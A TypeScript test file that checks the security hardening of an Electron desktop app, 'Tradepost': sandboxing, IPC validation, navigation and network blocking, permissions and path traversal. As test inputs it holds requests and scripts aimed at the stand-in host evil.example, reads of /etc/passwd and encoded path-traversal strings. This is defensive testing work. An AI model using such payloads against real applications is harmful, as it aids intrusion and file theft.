import { existsSync } from 'node:fs';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { launchChromium } from '../../e2e/chromium.ts';
import type { WindowDouble } from './electronDouble.ts';
import type { Program, ThreadDouble } from './program.ts';
import { startProgram } from './program.ts';

let browser: Browser;
let program: Program;
let window: WindowDouble;
let page: Page;
let thread: ThreadDouble;

beforeAll(async () => {
  browser = await launchChromium();
  program = await startProgram(browser, { worker: 'double', args: ['--name', 'Anna'] });
  window = await program.electron.window;
  page = await window.loaded;
  const [first] = program.threads;
  if (first === undefined) throw new Error('the program started no peer');
  thread = first;
});
afterAll(() => browser?.close());

/** Runs an expression in the page; text, so that the page's side needs no types here. */
const inPage = (expression: string): Promise<unknown> => page.evaluate(expression);
const refusalsSince = (count: number): string => JSON.stringify(program.refusals.slice(count));

test('the window shows the built interface', async () => {
  expect(window.calls).toContain('show');
  await page.waitForFunction(() => (document.querySelector('#root')?.childElementCount ?? 0) > 0);
  expect(await page.title()).toContain('Tradepost');
  expect(window.webContents.getURL()).toMatch(/^tradepost-app:\/\/app\//);
});

test('the peer is opened once, with the profile of the command line', () => {
  expect(program.threads).toHaveLength(1);
  expect(thread.heard[0]).toMatchObject({ start: { dataDir: program.dataDir, name: 'Anna', multicast: true } });
  expect(program.electron.app.paths.get('userData')).toBe(path.join(program.dataDir, 'window'));
});

test('the window is sandboxed, isolated and without Node', () => {
  expect(window.options.webPreferences).toMatchObject({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    nodeIntegrationInSubFrames: false,
    webviewTag: false,
    webSecurity: true,
  });
});

test('the page gets two functions and nothing else', async () => {
  expect(await inPage(`Object.keys(window.market).sort()`)).toEqual(['call', 'subscribe']);
  expect(await inPage(`[typeof require, typeof process, typeof module]`)).toEqual(['undefined', 'undefined', 'undefined']);
});

test('a call reaches the peer, and its answer the page', async () => {
  expect(await inPage(`window.market.call('stock', { mine: true })`)).toEqual({
    ok: true,
    value: { asked: 'stock', params: { mine: true } },
  });
});

test('a subscription delivers pushes without the event they came with, and ends when asked to', async () => {
  const got = await inPage(`new Promise((resolve) => {
    const stop = window.market.subscribe((...args) => { stop(); resolve(args); });
  })`);
  expect(got).toEqual([{ seq: 1, topic: 'events', data: [] }]);
  const mine = thread.heard.findLast((m) => 'subscribe' in m);
  await expect.poll(() => thread.heard.at(-1)).toEqual({ unsubscribe: mine !== undefined && 'subscribe' in mine ? mine.subscribe : 0 });
});

const badCalls: readonly [what: string, expression: string, code: string][] = [
  ['an unknown method', `window.market.call('shell', {})`, 'BAD_REQUEST'],
  ['a name every object has', `window.market.call('__proto__', {})`, 'BAD_REQUEST'],
  ['a method that is no text', `window.market.call(5, {})`, 'BAD_REQUEST'],
  ['missing arguments', `window.market.call('auction.bid')`, 'BAD_REQUEST'],
  ['arguments of the wrong kind', `window.market.call('auction.bid', { lotId: 5, amount: 45 })`, 'BAD_REQUEST'],
  ['arguments nobody knows', `window.market.call('status', { path: '/etc/passwd' })`, 'BAD_REQUEST'],
];
test.each(badCalls)('refused: a call with %s', async (_what, expression, code) => {
  const asked = thread.heard.length;
  const answer = await inPage(`${expression}.then((o) => o.ok ? 'ok' : o.error.code, () => 'rejected')`);
  expect(answer).toBe(code);
  expect(thread.heard.slice(asked).filter((m) => 'id' in m)).toEqual([]);
});

test('refused: a call from a frame inside the page, and from anybody who is not our window', async () => {
  const { electron } = program;
  const asked = thread.heard.length;
  const ours = window.webContents;
  const strangers: readonly [sender: object, frame: object | null][] = [
    [ours, { url: 'tradepost-app://app/', parent: {} }],
    [ours, { url: 'https://evil.example/', parent: null }],
    [ours, { url: 'tradepost-app://app.evil.example/', parent: null }],
    [ours, { url: 'tradepost-app://user@app/', parent: null }],
    [ours, null],
    [{}, { url: 'tradepost-app://app/', parent: null }],
  ];
  for (const [sender, frame] of strangers) {
    const before = program.refusals.length;
    expect(await electron.message('invoke', 'market:call', ['status', {}], sender, frame)).toMatchObject({
      ok: false,
      error: { code: 'UNAUTHORIZED' },
    });
    await electron.message('send', 'market:subscribe', [99], sender, frame);
    expect(refusalsSince(before)).toMatch(/"call".*"subscribe"/);
  }
  expect(thread.heard).toHaveLength(asked);
});

const journeys: readonly [what: string, expression: string][] = [
  ['going to another site', `location.href = 'https://evil.example/'`],
  ['going to a machine of the local network', `location.href = 'http://printer.example/'`],
  [
    'a form sent elsewhere',
    `(() => { const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit(); })()`,
  ],
  ['a window of another site', `window.open('https://evil.example/')`],
  ['a window of our own', `window.open(location.href)`],
  [
    'a link to a new window',
    `(() => { const a = document.createElement('a'); a.href = 'https://evil.example/'; a.target = '_blank'; a.click(); })()`,
  ],
  [
    'a frame of another site',
    `(() => { const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f); })()`,
  ],
  ['loading from the network', `fetch('https://evil.example/').then(() => 'got it', () => 'refused')`],
  [
    'a script from the network',
    `(() => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.head.append(s); })()`,
  ],
  [
    'a script written into the page',
    `(() => { const s = document.createElement('script'); s.textContent = 'window.stolen = 1'; document.head.append(s); })()`,
  ],
  ['a sound from the network', `new Audio('https://evil.example/x.mp3').play().then(() => 'got it', () => 'refused')`],
];
test.each(journeys)('refused: %s', async (_what, expression) => {
  const outside: string[] = [];
  const watch = (response: { url(): string }): void => {
    if (response.url().includes('.example')) outside.push(response.url());
  };
  page.context().on('response', watch);
  const result = await inPage(
    `(async () => { try { const r = await (${expression}); return typeof r === 'string' ? r : null; } catch { return 'refused'; } })()`,
  ).catch(() => null);
  // Whatever it started has been answered or aborted once the page can fetch one of its own files again.
  await inPage(`fetch('./index.html').then((r) => r.status)`);
  page.context().off('response', watch);
  expect(result).not.toBe('got it');
  expect(outside).toEqual([]);
  expect(await inPage('window.stolen === undefined')).toBe(true);
  expect(window.webContents.getURL()).toMatch(/^tradepost-app:\/\/app\//);
  await expect.poll(() => page.context().pages().length).toBe(1);
  expect(program.electron.popups).toEqual([]);
});

test('refused: every permission but copying text', async () => {
  const { session } = program.electron;
  const ask = (permission: string, url: string): Promise<boolean> =>
    new Promise((decide) => session.permissionRequest({ getURL: () => url }, permission, decide));
  for (const permission of ['media', 'geolocation', 'notifications', 'clipboard-read', 'openExternal', 'fileSystem', 'usb', 'unknown']) {
    expect(await ask(permission, 'tradepost-app://app/')).toBe(false);
    expect(session.permissionCheck(null, permission, 'tradepost-app://app')).toBe(false);
  }
  expect(await ask('clipboard-sanitized-write', 'tradepost-app://app/')).toBe(true);
  expect(await ask('clipboard-sanitized-write', 'https://evil.example/')).toBe(false);
  expect(session.deviceCheck({})).toBe(false);
});

test.each([
  ['https://evil.example/', true],
  ['http://127.0.0.1:47100/', true],
  ['file:///etc/passwd', true],
  ['ws://127.0.0.1/', true],
  ['tradepost-app://elsewhere/', true],
  ['tradepost-app://app/assets/index.js', false],
])('a request for %s is cancelled: %s', async (url, cancelled) => {
  const answer = await new Promise((decide) => program.electron.session.beforeRequest({ url }, decide));
  expect(answer).toEqual({ cancel: cancelled });
});

test.each(['/../package.json', '/..%2f..%2fpackage.json', '/%2e%2e/package.json', '/assets/..%5c..%5cpackage.json', '/.built'])(
  'refused: the file %s',
  async (name) => {
    const text = await inPage(`fetch('https://tradepost-app.test' + ${JSON.stringify(name)}).then((r) => r.text())`);
    expect(text).not.toContain('devDependencies');
    expect(text).not.toMatch(/^\d+\.\d+\.\d+/);
  },
);

test('a reload ends the subscriptions of the page that was', async () => {
  await inPage('void window.market.subscribe(() => {})');
  await expect.poll(() => thread.heard.at(-1)).toHaveProperty('subscribe');
  const last = thread.heard.at(-1);
  await page.reload();
  const number = last !== undefined && 'subscribe' in last ? last.subscribe : 0;
  await expect.poll(() => thread.heard).toContainEqual({ unsubscribe: number });
});

test('sleep and wake reach the peer', () => {
  program.electron.powerMonitor.emit('suspend');
  expect(thread.heard.at(-1)).toEqual({ control: 'suspend' });
  program.electron.powerMonitor.emit('resume');
  expect(thread.heard.at(-1)).toEqual({ control: 'resume' });
});

test('a second start shows the window that is there', async () => {
  program.electron.app.emit('second-instance', {}, []);
  expect(window.calls.slice(-3)).toEqual(['restore', 'show', 'focus']);
  const second = await startProgram(browser, { worker: 'double', lockFree: false });
  await second.electron.app.ended;
  expect(second.electron.app.exitCode).toBe(0);
  expect(second.threads).toEqual([]);
});

test('a profile name that is not one is refused before anything is written', async () => {
  const bad = await startProgram(browser, { worker: 'double', args: ['--profile', '../elsewhere'] });
  expect(bad.electron.app.exitCode).toBe(2);
  expect(bad.electron.errorBoxes).toHaveLength(1);
  expect(bad.threads).toEqual([]);
});

test('closing the window lets the peer hand over before the program ends', async () => {
  await window.close();
  await program.electron.app.ended;
  expect(thread.heard.at(-1)).toEqual({ control: 'shutdown' });
  expect(program.electron.app.exitCode).toBe(0);
  expect(existsSync(path.join(program.dataDir, 'window/window.json'))).toBe(true);
});
